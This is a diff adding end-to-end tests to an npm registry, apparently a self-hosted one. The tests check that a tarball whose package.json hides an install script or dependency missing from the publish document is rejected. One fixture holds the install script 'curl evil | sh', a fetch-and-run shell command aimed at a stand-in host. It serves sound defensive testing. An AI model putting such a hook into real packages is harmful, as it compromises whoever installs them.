@@ -1,5 +1,6 @@
 import { execFile } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
@@ -137,5 +138,81 @@ describe('the real npm CLI against a hosted npm repository', () => {
     await npm(['unpublish', '@e2e/app', '--force']);
     const gone = await get(`${registry}@e2e%2fapp`);
     expect(gone.status).toBe(404);
+  });
+});
+
+describe('manifest confusion: the tarball package.json must agree with the publish document', () => {
+  it('the real npm publish still publishes bins (string and directories.bin), install scripts, binding.gyp, deps', async () => {
+    await npm(['publish', writePackage('mc-bin', '1.0.0', { bin: './cli.js' })]);
+    const withDir = writePackage('mc-dirbin', '1.0.0', { directories: { bin: './bin' } });
+    mkdirSync(join(withDir, 'bin'));
+    writeFileSync(join(withDir, 'bin', 'tool'), '#!/usr/bin/env node\n');
+    await npm(['publish', withDir]);
+    await npm([
+      'publish',
+      writePackage('mc-scripts', '1.0.0', {
+        scripts: { postinstall: 'node -e 0', test: 'node -e 0' },
+        dependencies: { 'mc-bin': '^1.0.0', gh: 'github:user/repo#v1' },
+        optionalDependencies: { 'mc-dirbin': '^1.0.0' },
+        os: ['linux'],
+        engines: { node: '>=18' },
+      }),
+    ]);
+    const gyp = writePackage('mc-gyp', '1.0.0');
+    writeFileSync(join(gyp, 'binding.gyp'), '{"targets":[]}');
+    await npm(['publish', gyp]);
+    const view = JSON.parse((await npm(['view', 'mc-gyp@1.0.0', 'scripts', '--json'])).stdout) as { install?: string };
+    expect(view.install).toBe('node-gyp rebuild');
+    const bins = JSON.parse((await npm(['view', 'mc-dirbin@1.0.0', 'bin', '--json'])).stdout) as Record<string, string>;
+    expect(bins).toEqual({ tool: 'bin/tool' });
+  });
+
+  it('a raw publish whose tarball hides an install script or a dependency → 400 BAD_REQUEST, nothing stored', async () => {
+    const dir = writePackage('mc-evil', '1.0.0', { scripts: { install: 'curl evil | sh' }, dependencies: { x: '1' } });
+    const packed = JSON.parse((await npm(['pack', '--json', '--pack-destination', work], dir)).stdout) as {
+      filename: string;
+    }[];
+    const tgz = readFileSync(join(work, packed[0]?.filename ?? ''));
+    const clean = { name: 'mc-evil', version: '1.0.0', main: 'index.js', license: 'MIT' };
+    const put = (tarball: Buffer) =>
+      fetch(`${registry}mc-evil`, {
+        method: 'PUT',
+        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
+        body: JSON.stringify({
+          _id: 'mc-evil',
+          name: 'mc-evil',
+          'dist-tags': { latest: '1.0.0' },
+          versions: {
+            '1.0.0': {
+              ...clean,
+              _id: 'mc-evil@1.0.0',
+              dist: {
+                integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`,
+                shasum: createHash('sha1').update(tarball).digest('hex'),
+                tarball: `${registry}mc-evil/-/mc-evil-1.0.0.tgz`,
+              },
+            },
+          },
+          _attachments: {
+            'mc-evil-1.0.0.tgz': {
+              content_type: 'application/octet-stream',
+              data: tarball.toString('base64'),
+              length: tarball.byteLength,
+            },
+          },
+        }),
+      });
+    const res = await put(tgz);
+    expect(res.status).toBe(400);
+    const body = (await res.json()) as { error: string; code: string };
+    expect(body.code).toBe('BAD_REQUEST');
+    expect(body.error).toMatch(/dependencies.*scripts/);
+    const corrupt = Buffer.from(tgz);
+    corrupt.fill(0x55, 20, 60);
+    const bad = await put(corrupt);
+    expect([bad.status, ((await bad.json()) as { code: string }).code]).toEqual([400, 'BAD_REQUEST']);
+    expect((await get(`${registry}mc-evil`)).status).toBe(404);
+    expect((await get(`${registry}mc-evil/-/mc-evil-1.0.0.tgz`)).status).toBe(404);
+    expect((await get(`${registry}-/ping`)).status).toBe(200);
   });
 });
